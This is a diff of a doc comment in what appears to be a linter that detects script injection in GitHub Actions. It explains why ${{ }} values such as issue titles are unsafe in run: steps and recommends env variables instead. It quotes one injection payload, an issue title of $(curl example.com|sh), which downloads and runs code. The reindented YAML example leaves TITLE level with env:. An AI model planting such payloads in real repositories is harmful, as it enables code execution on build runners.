@@ -3,13 +3,13 @@
 // GitHub replaces ${{ }} before the shell or the script engine sees the text. What somebody else wrote (the title of an issue, the name of a
 // branch, a commit message) becomes a part of the program:
 //
-//	- run: echo "Title: ${{ github.event.issue.title }}"     # a title of $(curl example.com|sh) runs
+//   - run: echo "Title: ${{ github.event.issue.title }}"     # a title of $(curl example.com|sh) runs
 //
 // The value belongs into the environment, which the shell reads without running it:
 //
-//	- run: echo "Title: $TITLE"
-//	  env:
-//	    TITLE: ${{ github.event.issue.title }}
+//   - run: echo "Title: $TITLE"
+//     env:
+//     TITLE: ${{ github.event.issue.title }}
 //
 // The check reads `run:` of workflows and composite actions, the scripts that actions are given, and follows a value through `env:` into
 // ${{ env.X }}. Values of an event that a stranger can write block. Inputs of a dispatch, of a called workflow or of a composite action are
